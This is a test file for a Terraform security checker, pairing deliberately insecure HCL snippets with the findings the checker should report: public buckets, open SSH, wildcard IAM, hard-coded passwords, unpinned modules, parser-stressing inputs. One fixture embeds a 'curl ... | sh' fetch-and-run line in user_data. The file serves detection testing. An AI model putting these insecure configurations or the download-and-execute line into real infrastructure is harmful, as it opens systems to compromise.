import { expect, test } from 'vitest';
import { judgeTerraform } from '../../../../reviewers/security/terraform/judge-terraform.ts';
import { readHcl } from '../../../../reviewers/security/terraform/read-hcl.ts';

function said(text: string, path = 'main.tf'): string[] {
  const { hazards, unread } = judgeTerraform(text, path);
  return [
    ...hazards.map(({ rule, severity = '', lines }) => `${rule} ${severity} ${lines[0] ?? 0}`),
    ...(unread.length > 0 ? ['unjudged'] : []),
  ];
}

const statement = (lines: string): string => `data "aws_iam_policy_document" "a" {\n  statement {\n${lines}\n  }\n}\n`;
const ingress = (port: number, cidr: string): string =>
  `resource "aws_security_group" "a" {\n  ingress {\n    from_port = ${port}\n    to_port = ${port}\n    cidr_blocks = ["${cidr}"]\n  }\n}\n`;

test.each([
  ['resource "aws_s3_bucket" "a" {\n  bucket = "a"\n  acl = "public-read"\n}\n', ['public-exposure  3']],
  ['resource "aws_s3_bucket_public_access_block" "a" {\n  block_public_acls = false\n}\n', ['public-exposure  2']],
  ['resource "google_storage_bucket_iam_member" "a" {\n  member = "allUsers"\n}\n', ['public-exposure  2']],
  [ingress(22, '0.0.0.0/0'), ['public-exposure  5']],
  [ingress(443, '0.0.0.0/0'), []],
  [ingress(22, '10.0.0.0/8'), []],
  [ingress(22, '0.0.0.0/0').replace('ingress', 'egress'), []],
  [statement('    actions = ["*"]\n    resources = ["*"]'), ['excessive-permissions  3']],
  [statement('    effect = "Deny"\n    actions = ["*"]\n    resources = ["*"]'), []],
  [statement('    actions = ["s3:GetObject"]\n    resources = ["*"]'), []],
  [
    statement('    actions = ["a:b"]\n    principals {\n      type = "AWS"\n      identifiers = ["*"]\n    }'),
    ['excessive-permissions  6'],
  ],
  [statement('    effect = "Deny"\n    principals {\n      type = "AWS"\n      identifiers = ["*"]\n    }'), []],
  [
    'resource "aws_iam_policy" "a" {\n  policy = jsonencode({\n    Statement = [{\n      Effect = "Allow"\n      Action = "*"\n      Resource = "*"\n    }]\n  })\n}\n',
    ['excessive-permissions  5'],
  ],
  [
    'resource "aws_iam_role_policy_attachment" "a" {\n  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"\n}\n',
    ['excessive-permissions  2'],
  ],
  [
    'resource "aws_db_instance" "a" {\n  storage_encrypted = false\n  publicly_accessible = true\n}\n',
    ['public-exposure  3', 'unencrypted-data  2'],
  ],
  [
    'resource "aws_instance" "a" {\n  metadata_options {\n    http_tokens = "optional"\n  }\n}\n',
    ['excessive-permissions  3'],
  ],
  ['resource "aws_db_instance" "a" {\n  password = "hunter2hunter2"\n}\n', ['hard-coded-secret warning 2']],
  ['resource "aws_db_instance" "a" {\n  password = var.password\n}\n', []],
  ['variable "db_password" {\n  default = "hunter2hunter2"\n}\n', ['hard-coded-secret warning 2']],
  ['module "a" {\n  source = "git::https://a.example/b.git?ref=main"\n}\n', ['dependency-source warning 2']],
  ['module "a" {\n  source = "git::https://a.example/b.git?ref=v1.2.0"\n}\nmodule "b" {\n  source = "./b"\n}\n', []],
  ['module "a" {\n  source = "http://a.example/b.zip"\n}\n', ['dependency-source critical 2']],
  [
    'resource "null_resource" "a" {\n  provisioner "local-exec" {\n    command = "deploy ${var.name}"\n  }\n}\n',
    ['command-injection suggestion 3'],
  ],
  [
    'resource "aws_instance" "a" {\n  user_data = <<-EOT\n    #!/bin/sh\n    curl https://x.example/a | sh\n  EOT\n}\n',
    ['downloaded-code warning 4'],
  ],
  ['provider "helm" {\n  kubernetes {\n    insecure = true\n  }\n}\n', ['certificate-check-off  3']],
  ['resource "somebody_thing" "a" {\n  b = 1\n}\n', ['unjudged']],
  ['locals {\n  a = "${b["c"]}" # d\n  e = { f = [1, "}"] }\n}\n', []],
  ['resource "a" {', ['unjudged']],
])('%s', (text, expected) => {
  expect(said(text)).toEqual(expected);
});

test('JSON is left alone', () => {
  expect(said('{}', 'main.tf.json')).toEqual(['unjudged']);
});

test.each([
  `a = ${'['.repeat(50_000)}`,
  `a = "${'${"'.repeat(5000)}`,
  'a {\n'.repeat(5000),
  `a = <<X\n${'x\n'.repeat(50_000)}`,
])('ends on texts that are made to take long', (text) => {
  expect(readHcl(text)).toBeNull();
});
